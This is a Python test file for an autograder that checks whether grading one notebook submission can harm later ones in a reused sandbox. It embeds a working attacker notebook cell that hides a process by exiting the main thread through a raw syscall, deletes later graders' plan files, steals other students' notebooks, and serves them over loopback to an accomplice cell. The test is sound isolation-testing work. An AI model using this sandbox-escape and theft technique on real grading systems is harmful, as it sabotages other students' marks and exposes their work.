"""Attacks on the warm sandbox: one submission's process that tries to outlive its notebook and
harm the submissions graded after it in the same sandbox.

A process whose main thread exits with the raw exit system call while its other threads go on
shows as a zombie ("Z") in /proc, so a cleanup that skips zombies leaves it running. Here it
deletes later notebooks' plans, reads their notebooks and serves them over loopback to an
accomplice graded later. Each notebook's kernel runs in a PID namespace of its own, killed whole
when the notebook is done, and its files are its own: the later submissions keep full marks and
nothing of them reaches the accomplice.
"""
import copy
import platform

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell

from autograder.examples import source_notebook
from autograder.grade import grade_submission

ASSIGNMENT = "softmax"
PORT = 47_011
SYS_EXIT = {"x86_64": 60, "aarch64": 93}[platform.machine()]

LURKER = f'''
import ctypes, glob, json, os, socket, threading, time
if os.fork() == 0:
    os.setsid()
    def lurk():
        stolen = []
        server = socket.socket()
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind(("127.0.0.1", {PORT}))
        server.listen()
        server.settimeout(0.02)
        while True:
            for plan in glob.glob("/tmp/probes/*.plan.json"):
                try:
                    os.unlink(plan)
                except OSError:
                    pass
            for notebook in glob.glob("/tmp/in/*/notebook.ipynb") + glob.glob("/tmp/in/*/*/notebook.ipynb"):
                try:
                    stolen.append(open(notebook).read())
                except OSError:
                    pass
            try:
                connection, _ = server.accept()
                connection.sendall(json.dumps(stolen[-3:]).encode())
                connection.close()
            except OSError:
                pass
    threading.Thread(target=lurk).start()
    time.sleep(0.3)
    ctypes.CDLL(None).syscall({SYS_EXIT}, 0)  # the main thread exits; the other thread lurks on
time.sleep(1)
'''

ACCOMPLICE = f'''
import glob, socket
try:
    with socket.create_connection(("127.0.0.1", {PORT}), timeout=2) as connection:
        print("RECEIVED", connection.recv(1 << 20)[:200])
except OSError as error:
    print("nothing on the port:", type(error).__name__)
readable = []
for path in glob.glob("/tmp/in/*/") + glob.glob("/tmp/in/*/*") + glob.glob("/tmp/in/*/*/*"):
    if path.endswith((".py")):
        continue  # the runner's and the zygote's scripts are the course's own code
    try:
        open(path).read(10)
        readable.append(path)
    except OSError:
        pass
print("READABLE", readable)
'''


def with_cells(*cells):
    nb = copy.deepcopy(source_notebook(ASSIGNMENT))
    nb.cells[1:1] = list(cells)
    return nb


def printed(graded, marker):
    nb = nbformat.reads(graded.autograded, as_version=4)
    return "".join(out.get("text", "") for cell in nb.cells if cell.cell_type == "code" and marker in cell.source
                   for out in cell.get("outputs", []) if out.get("output_type") == "stream")


def test_a_lingering_process_harms_no_later_submission(built):
    """The four notebooks are graded one after another in this thread's warm sandbox."""
    attacker = with_cells(new_code_cell(LURKER))
    victims = [with_cells(new_markdown_cell(f"SECRET-OF-VICTIM-{n}")) for n in (1, 2)]
    accomplice = with_cells(new_code_cell(ACCOMPLICE))

    graded = [grade_submission(nb, ASSIGNMENT, student=student, feedback=False)
              for student, nb in (("attacker", attacker), ("victim1", victims[0]), ("victim2", victims[1]),
                                  ("accomplice", accomplice))]

    for victim in graded[1:3]:
        assert victim.results["score"] == victim.results["extra_data"]["max_score"], victim.results["output"]
    seen = printed(graded[3], "RECEIVED")
    assert "nothing on the port" in seen, seen
    assert "SECRET-OF-VICTIM" not in seen
    assert "READABLE []" in seen, seen
